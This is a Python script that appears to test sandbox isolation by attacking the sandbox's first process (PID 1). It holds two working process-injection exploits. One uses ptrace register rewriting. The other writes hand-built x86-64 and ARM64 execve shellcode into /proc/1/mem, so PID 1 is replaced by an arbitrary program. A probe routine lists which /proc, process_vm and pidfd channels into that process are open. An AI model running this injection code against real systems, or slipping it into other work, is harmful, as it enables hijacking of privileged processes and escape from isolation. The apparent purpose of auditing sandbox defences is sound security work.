"""Attacks on the first process of a sandbox, run inside it: `python3 first_process.py ATTACK [PROGRAM]`.

`takeover` turns it into PROGRAM by tracing it, `memory` by writing to its memory and waking it up; each says what
became of it. `reach` tries every way to look into it, and prints those that are open.
"""

# ruff: noqa: PTH123, SIM115

import ctypes
import os
import platform
import struct
import sys
import time
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
libc.ptrace.restype = ctypes.c_long
ARM = platform.machine() == "aarch64"
SEIZE, INTERRUPT, GETREGSET, SETREGSET, DETACH = 0x4206, 0x4207, 0x4204, 0x4205, 17


class Iov(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def trace(request, address=0, data=0):
    if libc.ptrace(request, 1, address, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def plant(memory, base, program):
    """Put the arguments of execve below the stack; where they are: path, argv, environment."""
    strings = [b"/usr/bin/python3\0", program.encode() + b"\0"]
    os.pwrite(memory, b"".join(strings), base)
    os.pwrite(memory, struct.pack("<QQQ", base, base + len(strings[0]), 0), base + 256)
    os.pwrite(memory, bytes(8), base + 320)
    return base, base + 256, base + 320


def takeover(program):
    trace(SEIZE)
    trace(INTERRUPT)
    os.waitpid(1, 0x40000000)
    words = (ctypes.c_uint64 * (34 if ARM else 27))()
    iov = Iov(ctypes.addressof(words), ctypes.sizeof(words))
    trace(GETREGSET, 1, ctypes.addressof(iov))
    stack, counter = (words[31], words[32]) if ARM else (words[19], words[16])
    memory = os.open("/proc/1/mem", os.O_RDWR)
    path, argv, environment = plant(memory, (stack - 4096) & ~15, program)
    os.pwrite(memory, struct.pack("<I", 0xD4000001) if ARM else b"\x0f\x05", counter)
    if ARM:
        words[0], words[1], words[2], words[8] = path, argv, environment, 221
    else:
        words[14], words[13], words[12], words[10], words[15] = path, argv, environment, 59, 2**64 - 1
    trace(SETREGSET, 1, ctypes.addressof(iov))
    trace(DETACH)


def memory(program):
    _, *numbers = open("/proc/1/syscall").read().split()
    stack, counter = int(numbers[-2], 16), int(numbers[-1], 16)
    handle = os.open("/proc/1/mem", os.O_RDWR)
    values = plant(handle, (stack - 8192) & ~15, program)
    if ARM:
        code = b"".join(
            struct.pack("<I", start | (value >> shift & 0xFFFF) << 5 | register)
            for register, value in zip((0, 1, 2, 8), (*values, 221), strict=True)
            for start, shift in ((0xD2800000, 0), (0xF2A00000, 16), (0xF2C00000, 32))
        ) + struct.pack("<I", 0xD4000001)
    else:
        moves = zip((b"\x48\xbf", b"\x48\xbe", b"\x48\xba", b"\x48\xb8"), (*values, 59), strict=True)
        code = b"".join(move + struct.pack("<Q", value) for move, value in moves) + b"\x0f\x05"
    os.pwrite(handle, code, counter)
    os.write(os.open("/proc/1/fd/0", os.O_WRONLY | os.O_NONBLOCK), b"x\n")


def reach():
    def written(call):
        text = ctypes.create_string_buffer(8)
        ours, theirs = Iov(ctypes.addressof(text), 8), Iov(0x1000, 8)
        if (
            call(1, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) < 0 and ctypes.get_errno() != 14
        ):  # EFAULT: let in
            raise OSError(ctypes.get_errno(), "process_vm")

    def taken():
        if libc.syscall(438, os.pidfd_open(1), 0, 0) < 0:  # pidfd_getfd
            raise OSError(ctypes.get_errno(), "pidfd_getfd")

    ways: dict[str, Callable[[], object]] = {
        name: lambda name=name: os.close(os.open(f"/proc/1/{name}", os.O_RDONLY))
        for name in ("mem", "maps", "environ", "root", "cwd", "exe", "fd/0")
    }
    ways |= {
        "ptrace": lambda: trace(16),
        "write mem": lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)),
        "process_vm_readv": lambda: written(libc.process_vm_readv),
        "process_vm_writev": lambda: written(libc.process_vm_writev),
        "pidfd_getfd": taken,
    }
    open_ways = []
    for name, way in ways.items():
        try:
            way()
            open_ways.append(name)
        except OSError as error:
            if error.errno not in (1, 13, 30):  # not permitted, or the /proc of a sandbox takes no writes
                raise
    print(open_ways)


if __name__ == "__main__":
    if sys.argv[1] == "reach":
        reach()
    else:
        try:
            {"takeover": takeover, "memory": memory}[sys.argv[1]](sys.argv[2])
        except OSError as error:
            print(f"{sys.argv[1]}: {error}")
        time.sleep(0.3)
        print("the first process is", open("/proc/1/cmdline").read().replace("\0", " "))
